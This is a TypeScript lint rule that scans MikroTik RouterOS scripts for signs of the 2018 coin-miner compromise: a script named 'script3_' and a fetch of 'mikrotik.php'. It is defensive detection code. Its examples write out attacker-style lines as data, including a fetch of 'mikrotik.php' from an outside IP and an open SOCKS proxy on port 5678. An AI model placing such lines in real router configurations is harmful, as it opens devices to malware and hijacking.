import type { ArgumentUse, CommandUse, ScriptModel } from '../../model/types';
import type { Span } from '../../syntax/span';
import { defineRule } from '../rule';
import { fetchesOf } from '../support/fetch';

interface Sign {
  readonly span: Span;
  readonly what: string;
}

const scriptMenu = '/system/script';

export default defineRule({
  id: 'compromise-indicator',
  category: 'security',
  severity: 'warning',
  risk: 'critical',
  since: '0.1.0',
  recommended: true,
  summary: 'The configuration carries a sign of known malware',
  why: `Attacks on routers leave their marks in the configuration. This rule knows two of the wave of coin miners of 2018: a script named \`script3_\` and a file \`mikrotik.php\`. The other signs have rules of their own: \`firewall-accept-5678\`, \`socks-enabled\`, \`l2tp-client-unknown\` and \`scheduler-persistence-pattern\`.

A sign may have another reason. If you know of none, treat the router as taken over: install RouterOS anew with Netinstall, change all passwords, and do not restore a binary backup.`,
  references: [
    'CWE-506',
    'CVE-2018-14847',
    'https://manual.mikrotik.com/docs/system-information-and-utilities/scheduler',
  ],
  fix: null,
  examples: [
    {
      bad: '/system script add name=script3_ source={ :put a }',
      good: '/system script add name=script3 source={ :put a }',
    },
    {
      bad: '/tool fetch url="http://203.0.113.7/mikrotik.php"',
      good: '/tool fetch check-certificate=yes url="https://example.com/mikrotik.html"',
    },
  ],
  silent: [
    { script: '/ip socks set enabled=yes port=5678', because: 'The rule socks-enabled reports it' },
    {
      script: '/ip firewall filter add action=accept chain=input dst-port=5678 protocol=tcp',
      because: 'The rule firewall-accept-5678 reports it',
    },
    { script: '/system script run script3_', because: 'It runs one and makes none' },
  ],
  menus: [scriptMenu, '/tool'],
  check({ script, report }) {
    for (const { span, what } of [...scripts(script), ...files(script)]) {
      report({
        span,
        message: `${what}: known malware leaves this behind. If you know no other reason for it, treat the router as taken over: install it anew and change all passwords.`,
      });
    }
  },
});

function scripts(script: ScriptModel): readonly Sign[] {
  return script.commandsOf(scriptMenu).flatMap((command: CommandUse) => {
    const name =
      command.verb === 'add' ? command.arguments.find((argument: ArgumentUse) => argument.name === 'name') : undefined;
    return name?.value?.text === 'script3_' ? [{ span: name.span, what: 'A script is named script3_' }] : [];
  });
}

function files(script: ScriptModel): readonly Sign[] {
  return fetchesOf(script).flatMap(({ file, url, command }) =>
    file === 'mikrotik.php' ? [{ span: url?.span ?? command.span, what: 'A file mikrotik.php is fetched' }] : [],
  );
}
